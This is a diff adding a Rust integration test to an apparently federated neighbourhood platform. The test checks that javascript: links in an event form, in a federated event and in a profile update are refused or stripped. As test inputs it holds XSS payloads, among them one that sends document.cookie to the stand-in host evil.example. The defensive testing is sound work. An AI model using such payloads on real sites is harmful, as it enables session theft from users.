@@ -624,7 +624,51 @@ async fn streaming_is_capped_per_connection_and_per_address(backend: Backend) ->
     Ok(())
 }
 
+/// A link that runs script when a resident clicks it: typed into the event form, or sent by
+/// a peer as an event's online link, a post's page and a profile's page. None becomes a link.
+async fn links_are_web_addresses_only(backend: Backend) -> Result<()> {
+    let node = TestNode::start(backend).await?;
+    let peer = TestNode::start(backend).await?;
+    let zorg = node.add_initiative("zorg", false).await?;
+    let fatima = node.add_member("fatima", Some(&zorg)).await?;
+    let mut visitor = PageVisitor::new(&node.base_url())?;
+    visitor.log_in("fatima", "geheim-wachtwoord").await?;
+    let next_week = (chrono::Utc::now() + chrono::Duration::days(7)).format("%Y-%m-%d").to_string();
+    let fields = [("author", "fatima"), ("title", "Soep online"), ("date", next_week.as_str()), ("start", "17:30"),
+                  ("online_url", "javascript:fetch('//evil.example/?'+document.cookie)"), ("join_mode", "free"), ("visibility", "public")];
+    let refused = visitor.submit("/nieuw/activiteit", "/nieuw/activiteit", &fields).await?;
+    assert_eq!(refused.status, 422, "a javascript: link is refused");
+    assert!(refused.body.contains("id=\"online_url-error\""), "and explained beside the field");
+
+    let sender = peer.add_member("afzender", None).await?;
+    node.follow_and_wait(&fatima, &sender.ap_id).await?;
+    let event_id = format!("{}/events/1", sender.ap_id);
+    let starts = (chrono::Utc::now() + chrono::Duration::days(7)).to_rfc3339();
+    let create = json!({"id": format!("{event_id}/create"), "type": "Create", "actor": sender.ap_id,
+        "to": ["https://www.w3.org/ns/activitystreams#Public"],
+        "object": {"id": event_id, "type": "Event", "name": "Soep online", "attributedTo": sender.ap_id, "startTime": starts,
+                   "to": ["https://www.w3.org/ns/activitystreams#Public"], "content": "<p>Doe mee</p>",
+                   "url": "javascript:alert(document.cookie)",
+                   "location": {"type": "VirtualLocation", "url": "javascript:alert(document.cookie)"}}});
+    let inbox = format!("{}/inbox", node.base_url());
+    assert_eq!(post_signed(&inbox, &serde_json::to_vec(&create)?, Some(&signer_of(&sender)), None).await?, 202);
+    let post = eventually("the event arrives", || async { node.post(&event_id).await }).await?;
+    assert!(post.url.as_deref().is_none_or(|u| u.starts_with("http")), "the post's page: {:?}", post.url);
+    let page = PageVisitor::new(&node.base_url())?.get(&format!("/bericht/{}", post.id)).await?;
+    assert!(!page.body.to_lowercase().contains("javascript:"), "no script link on the event's page");
+
+    let mut profile: serde_json::Value =
+        reqwest::Client::new().get(&sender.ap_id).header("accept", "application/activity+json").send().await?.json().await?;
+    profile["url"] = json!("javascript:alert(1)");
+    let update = json!({"id": format!("{}#update-url", sender.ap_id), "type": "Update", "actor": sender.ap_id, "object": profile});
+    assert_eq!(post_signed(&inbox, &serde_json::to_vec(&update)?, Some(&signer_of(&sender)), None).await?, 202);
+    let held = node.actor(&sender.ap_id).await?.expect("known");
+    assert!(held.url.as_deref().is_none_or(|u| u.starts_with("http")), "the profile's page: {:?}", held.url);
+    Ok(())
+}
+
 buurtnet_tests::on_both_backends!(
+    links_are_web_addresses_only,
     streaming_is_capped_per_connection_and_per_address,
     no_picture_keeps_its_hidden_metadata,
     a_huge_webfinger_answer_is_never_read_into_memory,
